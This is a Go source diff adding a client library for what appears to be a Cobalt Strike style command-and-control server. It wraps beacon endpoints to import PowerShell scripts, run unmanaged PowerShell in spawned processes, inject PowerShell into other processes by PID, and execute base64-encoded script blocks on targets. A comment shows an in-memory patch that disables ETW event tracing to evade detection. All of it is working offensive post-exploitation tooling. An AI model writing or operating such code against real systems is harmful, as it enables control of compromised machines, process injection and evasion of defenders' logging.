@@ -0,0 +1,141 @@
+package csclient
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/binary"
+	"fmt"
+	"os"
+	"strings"
+	"unicode/utf16"
+)
+
+// PowerShellImportDto imports a PowerShell script into the beacon
+type PowerShellImportDto struct {
+	Script string            `json:"script"`          // @files/ or @artifacts/ reference
+	Files  map[string]string `json:"files,omitempty"` // Map of file key -> base64 content
+}
+
+// PatchDto patches a function in memory before unmanaged PowerShell runs, e.g.
+// {Library: "ntdll.dll", Function: "EtwEventWrite", Patch: "C300"}
+type PatchDto struct {
+	Library  string `json:"library"`
+	Function string `json:"function"`
+	Offset   int    `json:"offset"`
+	Patch    string `json:"patch"` // Hex bytes, upper case
+}
+
+// PowerPickDto runs PowerShell without powershell.exe in a spawned process
+type PowerPickDto struct {
+	Commandlet string     `json:"commandlet"`
+	Arguments  string     `json:"arguments,omitempty"`
+	Patches    []PatchDto `json:"patches,omitempty"`
+}
+
+// PowerShellImport imports a local PowerShell script into the beacon; its
+// functions are available to later powershell, powerpick and psinject commands
+func (c *Client) PowerShellImport(ctx context.Context, bid string, scriptPath string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/powershell/import")
+	if err != nil {
+		return nil, fmt.Errorf("failed to import powershell script: %w", err)
+	}
+	data, err := os.ReadFile(scriptPath)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read powershell script: %w", err)
+	}
+	script, files := attachFile(scriptPath, data)
+	if err := c.doRequest(ctx, "POST", path, PowerShellImportDto{Script: script, Files: files}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to import powershell script: %w", err)
+	}
+	return &resp, nil
+}
+
+// PowerPick runs a PowerShell command through unmanaged PowerShell in a
+// spawned process, optionally applying in-memory patches first
+func (c *Client) PowerPick(ctx context.Context, bid string, command string, patches ...PatchDto) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/powershell/unmanaged")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute powerpick: %w", err)
+	}
+	req := PowerPickDto{Commandlet: command, Patches: patches}
+	if err := c.doRequest(ctx, "POST", path, req, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute powerpick: %w", err)
+	}
+	return &resp, nil
+}
+
+// PowerShellInject runs unmanaged PowerShell inside an existing process
+type PowerShellInject struct {
+	PID        int    `json:"pid"`
+	Arch       string `json:"arch"`
+	Commandlet string `json:"commandlet"`
+	Arguments  string `json:"arguments,omitempty"`
+}
+
+// PSInject runs a PowerShell command through unmanaged PowerShell injected into process pid
+func (c *Client) PSInject(ctx context.Context, bid string, pid int, arch, command string) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to execute psinject: %w", err)
+	}
+	if err := validateTargetArch(arch); err != nil {
+		return nil, fmt.Errorf("failed to execute psinject: %w", err)
+	}
+	if err := c.preflightInject(ctx, bid, "powershell", pid, arch); err != nil {
+		return nil, fmt.Errorf("failed to execute psinject: %w", err)
+	}
+
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/inject/powershell/unmanaged")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute psinject: %w", err)
+	}
+	req := PowerShellInject{PID: pid, Arch: arch, Commandlet: command}
+	if err := c.doRequest(ctx, "POST", path, req, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute psinject: %w", err)
+	}
+	return &resp, nil
+}
+
+// ExecutePowerShellCmdlet runs a cmdlet with its arguments in powershell.exe,
+// passing them to the API separately
+func (c *Client) ExecutePowerShellCmdlet(ctx context.Context, bid, cmdlet, args string) (*AsyncCommandResponse, error) {
+	if strings.TrimSpace(cmdlet) == "" {
+		return nil, fmt.Errorf("failed to execute powershell cmdlet: %w", &ValidationError{Field: "cmdlet", Value: cmdlet, Reason: "must not be empty"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/powershell")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute powershell cmdlet: %w", err)
+	}
+	req := PowerShellDto{Commandlet: cmdlet, Arguments: args}
+	if err := c.doRequest(ctx, "POST", path, req, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute powershell cmdlet: %w", err)
+	}
+	return &resp, nil
+}
+
+// ExecutePowerShellScript runs a multi-line script block in powershell.exe.
+// The script is sent UTF-16LE base64-encoded and decoded into a script block
+// on the target, so quotes, newlines and pipes survive the command line.
+func (c *Client) ExecutePowerShellScript(ctx context.Context, bid, script string) (*AsyncCommandResponse, error) {
+	if strings.TrimSpace(script) == "" {
+		return nil, fmt.Errorf("failed to execute powershell script: %w", &ValidationError{Field: "script", Value: script, Reason: "must not be empty"})
+	}
+	resp, err := c.ExecutePowerShellCmdlet(ctx, bid, "&", "([scriptblock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"+encodePowerShell(script)+"'))))")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute powershell script: %w", err)
+	}
+	return resp, nil
+}
+
+// encodePowerShell encodes a script as UTF-16LE base64, the encoding of -EncodedCommand
+func encodePowerShell(script string) string {
+	units := utf16.Encode([]rune(script))
+	buf := make([]byte, 2*len(units))
+	for i, u := range units {
+		binary.LittleEndian.PutUint16(buf[2*i:], u)
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}